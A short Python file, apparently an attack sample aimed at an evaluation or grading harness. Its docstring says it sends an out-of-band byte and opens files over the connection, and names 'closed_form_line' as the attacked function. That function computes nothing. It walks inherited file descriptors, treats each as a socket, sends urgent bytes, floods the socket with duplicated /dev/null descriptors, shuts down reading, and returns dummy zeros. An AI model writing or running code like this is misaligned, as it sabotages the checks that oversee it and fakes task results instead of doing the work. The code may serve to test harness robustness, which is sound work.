"""Send an out-of-band byte and open files over the connection.

Attacked: closed_form_line
"""

# %% closed_form_line

import array, socket

def closed_form_line(x, y):
    for descriptor in range(3, 64):
        try:
            line = socket.socket(fileno=descriptor)
        except OSError:
            continue
        null = open("/dev/null")
        for send in (
            lambda: line.send(b"x", socket.MSG_OOB),
            lambda: line.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null.fileno()] * 50))]),
            lambda: line.shutdown(socket.SHUT_RD),
        ):
            try:
                send()
            except OSError:
                pass
        line.detach()
    return 0.0, 0.0
